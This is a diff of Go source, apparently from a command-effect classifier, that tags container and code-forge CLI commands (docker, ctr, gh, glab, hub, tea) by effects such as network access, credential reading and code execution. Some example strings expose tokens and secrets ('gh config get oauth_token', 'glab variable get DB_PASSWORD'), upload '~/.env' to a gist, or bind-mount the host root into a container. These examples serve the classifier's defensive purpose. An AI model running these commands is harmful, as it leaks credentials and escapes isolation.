 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"login|logout"}, Flags: []string{"--password-stdin", "--get-login", "-v", "--verbose"}, Values: []string{"-u", "--username", "-p", "--password", "--cert-dir", "--tls-verify"}, Effects: map[string]string{"--authfile": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"docker login registry.example.com -u ci --password-stdin", "docker logout"}}}}
 }
 
-func effectsContainersL1201() Pack {
+func effectsContainersL1252() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"cp"}, Flags: []string{"-a", "--archive", "-L", "--follow-link", "-q", "--quiet", "--overwrite"}, Operands: "read", Last: "write", Examples: []string{"docker cp web:/var/log/app.log ./app.log", "docker cp /path/to/input-file c1:input-file"}}}}
 }
 
-func effectsContainersL1209() Pack {
+func effectsContainersL1260() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"container", "cp"}, Flags: []string{"-a", "--archive", "-L", "--follow-link", "-q", "--quiet", "--overwrite"}, Operands: "read", Last: "write", Examples: []string{"docker container cp web:/etc/hosts hosts.txt"}}}}
 }
 
-func effectsContainersL1217() Pack {
+func effectsContainersL1268() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"save|export"}, Flags: []string{"-q", "--quiet", "-m", "--multi-image-archive", "--compress", "--uncompressed"}, Values: []string{"--platform", "--format"}, Effects: map[string]string{"--output": "write", "-o": "write"}, Examples: []string{"docker save -o app.tar app:1.2", "docker export web > web.tar"}}}}
 }
 
-func effectsContainersL1227() Pack {
+func effectsContainersL1278() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"docker", "podman", "nerdctl"}, Sub: []string{"load"}, Flags: []string{"-q", "--quiet"}, Values: []string{"--platform"}, Effects: map[string]string{"--input": "read", "-i": "read"}, Always: []string{"writes-files"}, Examples: []string{"docker load -i app.tar"}}}}
 }
 
-func effectsContainersL1240() Pack {
+func effectsContainersL1291() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Flags: []string{"--debug"}, Values: []string{"-a", "--address", "--timeout", "--connect-timeout", "-n", "--namespace"}, Operands: "subcommand", Examples: []string{"ctr", "ctr frobnicate"}, Counter: []string{"ctr version"}}}}
 }
 
-func effectsContainersL1248() Pack {
+func effectsContainersL1299() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"version"}, Examples: []string{"ctr version"}}}}
 }
 
-func effectsContainersL1253() Pack {
+func effectsContainersL1304() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"images|image|i|containers|container|c|tasks|task|t|namespaces|namespace|ns|snapshots|snapshot|plugins|plugin|content|leases", "ls|list|info|ps|check|usage|tree|metrics"}, Flags: []string{"-q", "--quiet", "--spec", "--detailed", "-d"}, Values: []string{"--format", "--snapshotter"}, Examples: []string{"ctr images ls", "ctr -n k8s.io containers list", "ctr tasks ls", "ctr ns ls"}}}}
 }
 
-func effectsContainersL1260() Pack {
+func effectsContainersL1311() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"events|event"}, Examples: []string{"ctr events"}}}}
 }
 
-func effectsContainersL1265() Pack {
+func effectsContainersL1316() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"run"}, Always: []string{"runs-code"}, Examples: []string{"ctr run --rm --mount type=bind,src=/,dst=/,options=rbind -t docker.io/library/alpine:latest x"}}}}
 }
 
-func effectsContainersL1271() Pack {
+func effectsContainersL1322() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"tasks|task|t", "exec|start"}, Always: []string{"runs-code"}, Examples: []string{"ctr tasks exec --exec-id sh1 -t web sh"}}}}
 }
 
-func effectsContainersL1277() Pack {
+func effectsContainersL1328() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"ctr"}, Sub: []string{"images|image|i", "pull|push|fetch"}, Flags: []string{"--all-platforms", "--plain-http", "--skip-verify", "-k", "--local"}, Values: []string{"--platform", "-u", "--user", "--hosts-dir", "--snapshotter"}, Always: []string{"network"}, Examples: []string{"ctr images pull docker.io/library/alpine:latest"}}}}
 }
 
@@ -6937,142 +6980,146 @@ func effectsFindutilsL147() Pack {
 }
 
 func effectsForgesL12() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gh"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "GH_BROWSER": "shell", "GH_CONFIG_DIR": "exec", "GH_EDITOR": "shell", "GH_PAGER": "shell", "GIT_EDITOR": "shell", "GLAMOUR_STYLE": "read", "PAGER": "shell", "VISUAL": "shell", "XDG_CONFIG_HOME": "exec"}, Examples: []string{"gh frobnicate", "gh co 12"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "GH_BROWSER": "shell", "GH_CONFIG_DIR": "exec", "GH_EDITOR": "shell", "GH_PAGER": "shell", "GIT_EDITOR": "shell", "GLAMOUR_STYLE": "read", "PAGER": "shell", "VISUAL": "shell", "XDG_CONFIG_HOME": "exec"}, HelpFlags: []string{"--help"}, Examples: []string{"gh frobnicate", "gh co 12"}}}}
 }
 
-func effectsForgesL29() Pack {
+func effectsForgesL30() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"pr|issue|run|workflow|release|repo|gist|label|cache|ruleset|project|secret|variable|codespace|org|attestation|ssh-key|gpg-key|extension|alias|config|auth|status|completion|preview|agent-task|copilot"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"gh pr frob", "gh status"}}}}
 }
 
-func effectsForgesL36() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"pr|issue|run|workflow|release|repo|gist|label|cache|ruleset|project|secret|variable|codespace|org|attestation|ssh-key|gpg-key|extension|alias|config", "list|ls|view|diff|checks|status|watch|verify|get|field-list|item-list|logs|trusted-root"}, Flags: []string{"--web", "--log", "--log-failed", "--comments", "-v", "--verbose", "--exit-status", "--name-only", "--patch", "--required", "--exclude-drafts", "--exclude-pre-releases", "--public", "--private", "--raw", "--yaml", "--no-truncate", "--closed", "--fork", "--source", "--archived", "--no-archived", "-a", "--all"}, Values: []string{"-R", "--repo", "-L", "--limit", "-s", "--state", "--assignee", "-A", "--author", "-l", "--label", "-B", "--base", "-H", "--head", "-S", "--search", "-q", "--jq", "-t", "--template", "--json", "-b", "--branch", "-w", "--workflow", "-u", "--user", "-e", "--event", "-c", "--commit", "--status", "--created", "--visibility", "--language", "--topic", "--order", "--sort", "--env", "-o", "--org", "--owner", "--format", "--app", "--hostname", "-j", "--job", "--attempt", "--color", "--interval", "--filename", "--ref", "--key", "--mention", "--milestone", "--app-id", "--secret-type"}, Always: []string{"network"}, Examples: []string{"gh pr list --state open", "gh pr view 42 --json title,body", "gh pr diff 42", "gh run view 123 --log-failed", "gh issue list -L 20", "gh pr checks", "gh release list", "gh repo view o/r"}, Counter: []string{"gh pr checkout 42"}}}}
+func effectsForgesL37() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"pr|issue|run|workflow|release|repo|gist|label|cache|ruleset|project|secret|variable|codespace|org|attestation|ssh-key|gpg-key|extension|alias", "list|ls|view|diff|checks|status|watch|verify|get|field-list|item-list|logs|trusted-root"}, Flags: []string{"--log", "--log-failed", "--comments", "-v", "--verbose", "--exit-status", "--name-only", "--patch", "--required", "--exclude-drafts", "--exclude-pre-releases", "--public", "--private", "--raw", "--yaml", "--no-truncate", "--closed", "--fork", "--source", "--archived", "--no-archived", "-a", "--all"}, Values: []string{"-R", "--repo", "-L", "--limit", "-s", "--state", "--assignee", "-A", "--author", "-l", "--label", "-B", "--base", "-H", "--head", "-S", "--search", "-q", "--jq", "-t", "--template", "--json", "-b", "--branch", "--workflow", "-u", "--user", "-e", "--event", "--commit", "--status", "--created", "--visibility", "--language", "--topic", "--order", "--sort", "--env", "-o", "--org", "--owner", "--format", "--app", "--hostname", "-j", "--job", "--attempt", "--color", "--interval", "--filename", "--ref", "--key", "--mention", "--milestone", "--app-id", "--secret-type"}, Effects: map[string]string{"--web": "runs-code"}, Always: []string{"remote-read"}, Examples: []string{"gh pr list --state open", "gh pr view 42 --json title,body", "gh pr diff 42", "gh run view 123 --log-failed", "gh issue list -L 20", "gh pr checks", "gh release list", "gh repo view o/r"}, Counter: []string{"gh pr checkout 42", "gh config get oauth_token"}}}}
 }
 
-func effectsForgesL53() Pack {
+func effectsForgesL58() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"config", "list|get"}, Values: []string{"-h", "--host"}, Always: []string{"credentials"}, Examples: []string{"gh config get oauth_token -h github.com", "gh config list"}}}}
+}
+
+func effectsForgesL65() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"pr|issue|repo|label|secret|variable|cache|run|workflow|ruleset|project|codespace|org", "create|new|edit|comment|review|merge|close|reopen|ready|lock|unlock|pin|unpin|transfer|delete|archive|unarchive|rename|set|remove|rerun|cancel|enable|disable|run|develop|copy|item-add|item-create|item-edit|item-delete|item-archive|field-create|field-delete|link|unlink|mark-template|sync|update-branch|stop|rebuild|deploy-key|fork|revert|autolink"}, Flags: []string{"--web", "-d", "--draft", "--fill", "--fill-first", "--fill-verbose", "-y", "--yes", "--squash", "--merge", "--rebase", "--auto", "--admin", "--delete-branch", "--approve", "--request-changes", "--comment", "--public", "--private", "--internal", "--clone", "--push", "--disable-issues", "--disable-wiki", "--force", "--failed", "--debug", "--remove-remote", "--remote", "--default-branch-only", "--no-maintainer-edit", "--dry-run", "--edit-last", "--editor", "--add-readme", "--template", "--include-all-branches"}, Values: []string{"-R", "--repo", "-t", "--title", "-b", "--body", "-B", "--base", "-H", "--head", "-a", "--assignee", "-l", "--label", "-m", "--milestone", "-p", "--project", "-r", "--reviewer", "--add-label", "--remove-label", "--add-assignee", "--remove-assignee", "--add-reviewer", "--remove-reviewer", "--add-project", "--remove-project", "--subject", "--match-head-commit", "--description", "--homepage", "-h", "--gitignore", "--license", "--source", "--visibility", "--org", "-o", "--owner", "--env", "-e", "--app", "-u", "--user", "--json", "-q", "--jq", "-c", "--color", "--name", "--fork-name", "--ref", "-f", "--raw-field", "-F", "--field", "--job", "--reason", "-s", "--state", "--format", "--type", "--title-prefix", "--remote-name", "--branch", "--base-branch", "--body-file-name"}, Effects: map[string]string{"--body-file": "upload"}, Always: []string{"network"}, Examples: []string{"gh pr create --fill", "gh pr merge 42 --squash --delete-branch", "gh issue comment 7 --body-file notes.md", "gh secret set TOKEN < token.txt", "gh workflow run ci.yml --ref main"}}}}
 }
 
-func effectsForgesL74() Pack {
+func effectsForgesL86() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"gist|release|ssh-key|gpg-key", "create|new|upload|add"}, Flags: []string{"-p", "--public", "--web", "--draft", "--prerelease", "--latest", "--generate-notes", "--verify-tag", "--clobber"}, Values: []string{"-R", "--repo", "-d", "--desc", "-f", "--filename", "-t", "--title", "-n", "--notes", "--target", "--discussion-category", "--notes-start-tag", "--type"}, Effects: map[string]string{"--notes-file": "upload", "-F": "upload"}, Operands: "upload", Always: []string{"network"}, Examples: []string{"gh gist create ~/.env", "gh release create v1.0 dist/app.tar.gz --generate-notes", "gh ssh-key add key.pub", "gh release upload v1.0 dist/app.tar.gz"}}}}
 }
 
-func effectsForgesL89() Pack {
+func effectsForgesL101() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"gist|release|ssh-key|gpg-key", "edit|delete|rename|remove|delete-asset|verify-asset"}, Flags: []string{"-y", "--yes", "--cleanup-tag", "--draft", "--prerelease", "--latest"}, Values: []string{"-R", "--repo", "-t", "--title", "-n", "--notes", "--tag", "--target", "-d", "--desc", "-f", "--filename"}, Effects: map[string]string{"--add": "upload", "--notes-file": "upload", "-F": "upload", "-a": "upload"}, Always: []string{"network"}, Examples: []string{"gh release delete v0.9 --yes", "gh gist edit abc123 -f notes.md"}}}}
 }
 
-func effectsForgesL102() Pack {
+func effectsForgesL114() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"pr|repo|gist|run|release|codespace", "checkout|clone|download|cp|code|ssh|jupyter|ports"}, Flags: []string{"-f", "--force", "--detach", "--recurse-submodules", "--skip-existing", "--clobber", "-e", "--expand", "-r", "--recursive", "--insiders", "--web"}, Values: []string{"-R", "--repo", "-b", "--branch", "-n", "--name", "-p", "--pattern", "-A", "--archive", "-u", "--upstream-remote-name", "-c", "--codespace", "--profile", "-d", "--depth", "--server-port"}, Effects: map[string]string{"--dir": "write", "--output": "write", "-D": "write", "-O": "write"}, Last: "write", Always: []string{"network", "runs-code"}, Examples: []string{"gh pr checkout 42", "gh repo clone o/r", "gh run download 123 -n dist", "gh codespace ssh"}}}}
 }
 
-func effectsForgesL118() Pack {
+func effectsForgesL130() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"auth", "token"}, Values: []string{"-h", "--hostname", "-u", "--user"}, Always: []string{"network", "credentials"}, Examples: []string{"gh auth token"}}}}
 }
 
-func effectsForgesL125() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"auth", "status"}, Flags: []string{"-a", "--active"}, Values: []string{"-h", "--hostname", "--json", "-q", "--jq", "--template"}, Effects: map[string]string{"--show-token": "credentials", "-t": "credentials"}, Always: []string{"network"}, Examples: []string{"gh auth status", "gh auth status --show-token"}}}}
+func effectsForgesL137() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"auth", "status"}, Flags: []string{"-a", "--active"}, Values: []string{"-h", "--hostname", "--json", "-q", "--jq", "--template"}, Effects: map[string]string{"--show-token": "credentials", "-t": "credentials"}, Always: []string{"remote-read"}, Examples: []string{"gh auth status", "gh auth status --show-token"}}}}
 }
 
-func effectsForgesL136() Pack {
+func effectsForgesL148() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"auth", "login|logout|refresh|setup-git|switch"}, Flags: []string{"-w", "--web", "--with-token", "--insecure-storage", "--skip-ssh-key", "-c", "--clipboard", "--reset-scopes"}, Values: []string{"-h", "--hostname", "-p", "--git-protocol", "-s", "--scopes", "-r", "--remove-scopes", "-u", "--user"}, Always: []string{"network", "writes-files"}, Examples: []string{"gh auth login --with-token < token.txt", "gh auth setup-git"}}}}
 }
 
-func effectsForgesL144() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"api"}, Flags: []string{"--paginate", "--slurp", "-i", "--include", "--silent", "--verbose"}, Values: []string{"-X", "--method", "-H", "--header", "-f", "--raw-field", "-F", "--field", "-q", "--jq", "-t", "--template", "--cache", "--hostname", "-p", "--preview"}, Effects: map[string]string{"--input": "upload"}, Always: []string{"network"}, Examples: []string{"gh api repos/o/r/pulls", "gh api -X PATCH repos/o/r -f description=x", "gh api graphql --input q.json"}}}}
+func effectsForgesL156() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"api"}, Flags: []string{"--paginate", "--slurp", "-i", "--include", "--silent", "--verbose"}, Values: []string{"-H", "--header", "-q", "--jq", "-t", "--template", "--cache", "--hostname", "-p", "--preview"}, Effects: map[string]string{"--field": "sends", "--input": "upload", "--method": "method", "--raw-field": "sends", "-F": "sends", "-X": "method", "-f": "sends"}, Always: []string{"remote-read"}, Examples: []string{"gh api repos/o/r/pulls", "gh api -X PATCH repos/o/r -f description=x", "gh api graphql --input q.json", "gh api -X GET repos/o/r/issues --paginate"}}}}
 }
 
-func effectsForgesL155() Pack {
+func effectsForgesL175() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"browse"}, Flags: []string{"-n", "--no-browser", "-c", "--commit", "-p", "--projects", "-r", "--releases", "-s", "--settings", "-w", "--wiki", "-a", "--actions"}, Values: []string{"-R", "--repo", "-b", "--branch"}, Always: []string{"network", "runs-code"}, Examples: []string{"gh browse", "gh browse main.go:12"}}}}
 }
 
-func effectsForgesL164() Pack {
+func effectsForgesL184() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"extension|alias|config|completion|copilot", "install|upgrade|exec|create|remove|set|delete|import|browse|search|edit|suggest|explain|clear-cache"}, Flags: []string{"--force", "--all", "--dry-run", "--shell", "-s", "--clobber", "--pin"}, Values: []string{"-h", "--host", "--precompiled"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"gh extension install owner/gh-ext", "gh alias set co 'pr checkout'", "gh config set editor vim"}}}}
 }
 
-func effectsForgesL172() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"search"}, Flags: []string{"--web", "--archived", "--include-forks", "--draft", "--locked", "--merged", "--no-assignee", "--no-label", "--no-milestone", "--no-project"}, Values: []string{"-L", "--limit", "--json", "-q", "--jq", "-t", "--template", "--owner", "--language", "--sort", "--order", "-R", "--repo", "--state", "--label", "--author", "--visibility", "--topic", "--stars", "--created", "--updated", "--match", "--filename", "--extension", "--size", "--forks", "--license", "--assignee", "--base", "--head"}, Always: []string{"network"}, Examples: []string{"gh search repos toolguard --limit 5", "gh search issues 'flaky test' --repo o/r"}}}}
+func effectsForgesL192() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gh"}, Sub: []string{"search"}, Flags: []string{"--archived", "--include-forks", "--draft", "--locked", "--merged", "--no-assignee", "--no-label", "--no-milestone", "--no-project"}, Values: []string{"-L", "--limit", "--json", "-q", "--jq", "-t", "--template", "--owner", "--language", "--sort", "--order", "-R", "--repo", "--state", "--label", "--author", "--visibility", "--topic", "--stars", "--created", "--updated", "--match", "--filename", "--extension", "--size", "--forks", "--license", "--assignee", "--base", "--head"}, Effects: map[string]string{"--web": "runs-code"}, Always: []string{"remote-read"}, Examples: []string{"gh search repos toolguard --limit 5", "gh search issues 'flaky test' --repo o/r"}}}}
 }
 
-func effectsForgesL185() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "GLAB_CONFIG_DIR": "exec", "GLAB_EDITOR": "shell", "GLAB_PAGER": "shell", "PAGER": "shell", "VISUAL": "shell"}, Examples: []string{"glab frobnicate"}}}}
+func effectsForgesL207() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "GLAB_CONFIG_DIR": "exec", "GLAB_EDITOR": "shell", "GLAB_PAGER": "shell", "PAGER": "shell", "VISUAL": "shell"}, HelpFlags: []string{"--help"}, Examples: []string{"glab frobnicate"}}}}
 }
 
-func effectsForgesL198() Pack {
+func effectsForgesL221() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"mr|issue|ci|pipeline|release|repo|label|snippet|variable|schedule|project|cluster|deploy-key|ssh-key|gpg-key|job|incident|milestone|environment|user|stack|changelog|token|iteration|opentofu|securefile|runner|check-update|version|auth|config|alias|completion|duo|attestation"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"glab mr frob", "glab check-update"}}}}
 }
 
-func effectsForgesL205() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"mr|issue|ci|pipeline|release|repo|label|snippet|schedule|project|cluster|deploy-key|ssh-key|gpg-key|job|incident|milestone|environment|changelog|iteration|securefile|runner|alias", "list|ls|view|diff|status|get|trace|lint|issues|generate|search|contributors|members"}, Flags: []string{"-w", "--web", "-c", "--comments", "--system-logs", "-A", "--all", "--closed", "--merged", "--draft", "--opened"}, Values: []string{"-R", "--repo", "-P", "--per-page", "-p", "--page", "-F", "--output", "-o", "--order", "--sort", "-l", "--label", "-a", "--assignee", "--author", "-b", "--branch", "-s", "--source-branch", "-t", "--target-branch", "-g", "--group", "-m", "--milestone", "--search", "--state", "--pipeline-id"}, Always: []string{"network"}, Examples: []string{"glab mr list", "glab mr view 12 --comments", "glab ci status", "glab ci trace 456", "glab issue list -l bug"}}}}
+func effectsForgesL228() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"mr|issue|ci|pipeline|release|repo|label|snippet|schedule|project|cluster|deploy-key|ssh-key|gpg-key|job|incident|milestone|environment|changelog|iteration|securefile|runner|alias", "list|ls|view|diff|status|get|trace|lint|issues|generate|search|contributors|members"}, Flags: []string{"-c", "--comments", "--system-logs", "-A", "--all", "--closed", "--merged", "--draft", "--opened"}, Values: []string{"-R", "--repo", "-P", "--per-page", "-p", "--page", "-F", "--output", "-o", "--order", "--sort", "-l", "--label", "-a", "--assignee", "--author", "-b", "--branch", "-s", "--source-branch", "-t", "--target-branch", "-g", "--group", "-m", "--milestone", "--search", "--state", "--pipeline-id"}, Effects: map[string]string{"--web": "runs-code", "-w": "runs-code"}, Always: []string{"remote-read"}, Examples: []string{"glab mr list", "glab mr view 12 --comments", "glab ci status", "glab ci trace 456", "glab issue list -l bug"}}}}
 }
 
-func effectsForgesL215() Pack {
+func effectsForgesL241() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"mr|issue|repo|label|variable|schedule|project|ci|pipeline|incident|milestone|environment|deploy-key|token", "create|new|update|edit|note|comment|approve|revoke|merge|close|reopen|delete|archive|transfer|subscribe|unsubscribe|rebase|todo|run|retry|cancel|trigger|set|remove|add|fork|mirror|rotate"}, Flags: []string{"-y", "--yes", "-f", "--fill", "--draft", "--wip", "--squash", "--remove-source-branch", "--rebase", "--when-pipeline-succeeds", "--auto-merge", "-w", "--web", "--private", "--public", "--internal", "--masked", "--protected", "--raw", "--create-source-branch"}, Values: []string{"-R", "--repo", "-t", "--title", "-d", "--description", "-m", "--message", "-b", "--target-branch", "-s", "--source-branch", "-l", "--label", "-a", "--assignee", "--reviewer", "--milestone", "-n", "--name", "-v", "--value", "-e", "--environment-scope", "--scope", "--type", "--ref", "--variables", "-g", "--group", "--visibility"}, Effects: map[string]string{"--description-file": "upload"}, Always: []string{"network"}, Examples: []string{"glab mr create --fill --yes", "glab mr merge 12 --squash", "glab variable set KEY value"}}}}
 }
 
-func effectsForgesL230() Pack {
+func effectsForgesL256() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"release|snippet|ssh-key|gpg-key|securefile", "create|new|upload|add"}, Flags: []string{"-p", "--public", "--private", "--internal", "--no-update"}, Values: []string{"-R", "--repo", "-t", "--title", "-d", "--description", "-n", "--name", "--notes", "--ref", "--milestone", "--released-at", "--assets-links", "-f", "--filename", "-v", "--visibility"}, Effects: map[string]string{"--notes-file": "upload", "-N": "upload"}, Operands: "upload", Always: []string{"network"}, Examples: []string{"glab release upload v1.0 dist/app.tar.gz", "glab snippet create -t notes ~/.env"}}}}
 }
 
-func effectsForgesL243() Pack {
+func effectsForgesL269() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"release|snippet|ssh-key|gpg-key|securefile", "update|edit|delete|remove"}, Flags: []string{"-y", "--yes"}, Values: []string{"-R", "--repo", "-t", "--title", "-d", "--description", "-n", "--name", "--notes"}, Effects: map[string]string{"--notes-file": "upload", "-N": "upload"}, Always: []string{"network"}, Examples: []string{"glab release delete v0.9 --yes"}}}}
 }
 
-func effectsForgesL254() Pack {
+func effectsForgesL280() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"mr|repo|ci|job|release|securefile", "checkout|clone|artifact|download"}, Flags: []string{"-f", "--force", "--track"}, Values: []string{"-R", "--repo", "-b", "--branch", "-u", "--set-upstream-to", "-g", "--group", "-n", "--name", "-a", "--asset-name"}, Effects: map[string]string{"--dir": "write", "--path": "write", "-D": "write", "-p": "write"}, Last: "write", Always: []string{"network", "runs-code"}, Examples: []string{"glab mr checkout 12", "glab repo clone group/proj", "glab ci artifact main build"}}}}
 }
 
-func effectsForgesL269() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"auth", "status"}, Flags: []string{"-a", "--all"}, Values: []string{"-h", "--hostname"}, Effects: map[string]string{"--show-token": "credentials", "-t": "credentials"}, Always: []string{"network"}, Examples: []string{"glab auth status", "glab auth status --show-token"}}}}
-}
-
-func effectsForgesL280() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"config|variable", "get|export"}, Flags: []string{"-g", "--global"}, Values: []string{"-h", "--host", "-R", "--repo", "-s", "--scope", "-F", "--output", "--group"}, Always: []string{"network", "credentials"}, Examples: []string{"glab config get token", "glab variable get DB_PASSWORD", "glab variable export"}}}}
-}
-
-func effectsForgesL288() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"api"}, Flags: []string{"--paginate", "-i", "--include", "--silent"}, Values: []string{"-X", "--method", "-H", "--header", "-f", "--raw-field", "-F", "--field", "--hostname"}, Effects: map[string]string{"--input": "upload"}, Always: []string{"network"}, Examples: []string{"glab api projects/:id/merge_requests", "glab api --input body.json -X POST projects/1/issues"}}}}
-}
-
-func effectsForgesL298() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"auth|config|alias|duo|stack|cluster|completion|opentofu", "login|logout|set|delete|edit|ask|save|sync|amend|create|move|reorder|switch|first|last|next|prev|graph|agent|init|state"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"glab auth login --stdin", "glab alias set co 'mr checkout'", "glab config set editor vim"}}}}
+func effectsForgesL295() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"auth", "status"}, Flags: []string{"-a", "--all"}, Values: []string{"-h", "--hostname"}, Effects: map[string]string{"--show-token": "credentials", "-t": "credentials"}, Always: []string{"remote-read"}, Examples: []string{"glab auth status", "glab auth status --show-token"}}}}
 }
 
 func effectsForgesL306() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"config|variable", "get|export"}, Flags: []string{"-g", "--global"}, Values: []string{"-h", "--host", "-R", "--repo", "-s", "--scope", "-F", "--output", "--group"}, Always: []string{"network", "credentials"}, Examples: []string{"glab config get token", "glab variable get DB_PASSWORD", "glab variable export"}}}}
+}
+
+func effectsForgesL314() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"api"}, Flags: []string{"--paginate", "-i", "--include", "--silent"}, Values: []string{"-H", "--header", "--hostname"}, Effects: map[string]string{"--field": "sends", "--input": "upload", "--method": "method", "--raw-field": "sends", "-F": "sends", "-X": "method", "-f": "sends"}, Always: []string{"remote-read"}, Examples: []string{"glab api projects/:id/merge_requests", "glab api --input body.json -X POST projects/1/issues"}}}}
+}
+
+func effectsForgesL330() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"glab"}, Sub: []string{"auth|config|alias|duo|stack|cluster|completion|opentofu", "login|logout|set|delete|edit|ask|save|sync|amend|create|move|reorder|switch|first|last|next|prev|graph|agent|init|state"}, Always: []string{"network", "runs-code", "writes-files"}, Examples: []string{"glab auth login --stdin", "glab alias set co 'mr checkout'", "glab config set editor vim"}}}}
+}
+
+func effectsForgesL338() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hub"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "GIT_EDITOR": "shell", "GIT_PAGER": "shell", "GIT_SSH_COMMAND": "shell", "HUB_CONFIG": "exec", "PAGER": "shell"}, Examples: []string{"hub frobnicate", "hub status"}}}}
 }
 
-func effectsForgesL319() Pack {
+func effectsForgesL351() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hub"}, Sub: []string{"pull-request|issue|release|ci-status|compare|create|fork|sync|api|gist|delete|pr"}, Flags: []string{"--force", "-d", "--draft", "-p", "--push", "-o", "--browse", "-c", "--copy", "--no-edit", "--include-closed", "--remote-name", "--no-remote", "-v", "--verbose", "--paginate", "-t", "--obj", "--color", "--public", "--private"}, Values: []string{"-m", "--message", "-b", "--base", "-h", "--head", "-a", "--assign", "-r", "--reviewer", "-M", "--milestone", "-l", "--labels", "-s", "--state", "-L", "--limit", "-X", "--method", "-H", "--header", "-F", "--field", "-f", "--raw-field", "--cache", "--format", "-S", "--sort", "--since", "--include"}, Effects: map[string]string{"--attach": "upload", "--edit": "runs-code", "--file": "upload", "-e": "runs-code"}, Always: []string{"network"}, Examples: []string{"hub pull-request -m 'fix'", "hub ci-status", "hub api repos/o/r", "hub issue"}}}}
 }
 
-func effectsForgesL336() Pack {
+func effectsForgesL368() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"hub"}, Sub: []string{"browse"}, Flags: []string{"-u", "-c", "--url", "--copy"}, Always: []string{"runs-code"}, Examples: []string{"hub browse", "hub browse -- issues"}}}}
 }
 
-func effectsForgesL343() Pack {
+func effectsForgesL375() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tea"}, Operands: "subcommand", Env: map[string]string{"BROWSER": "shell", "EDITOR": "shell", "VISUAL": "shell"}, Examples: []string{"tea frobnicate"}}}}
 }
 
-func effectsForgesL352() Pack {
+func effectsForgesL384() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"tea"}, Sub: []string{"pulls|pull|pr|issues|issue|i|releases|release|r|repos|repo|labels|label|milestones|milestone|ms|notifications|notification|n|times|time|t|branches|branch|organizations|organization|org|comment|c|whoami|admin|webhooks|webhook|actions|action|open|o|clone|logins|login|logout"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"tea pulls frob", "tea whoami"}}}}
 }
 
